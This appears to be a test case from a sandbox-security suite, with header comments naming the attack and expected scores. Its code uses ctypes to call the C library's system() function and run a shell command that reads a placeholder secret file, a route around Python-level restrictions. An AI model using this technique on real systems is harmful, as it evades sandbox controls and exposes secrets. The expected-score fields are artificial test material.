# attack: Lets the C library run a shell command.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: processes

# %% after q01
import ctypes

libc = ctypes.CDLL(None)
libc.system(b"cat {SECRET} > found.txt")
print(open("found.txt").read())
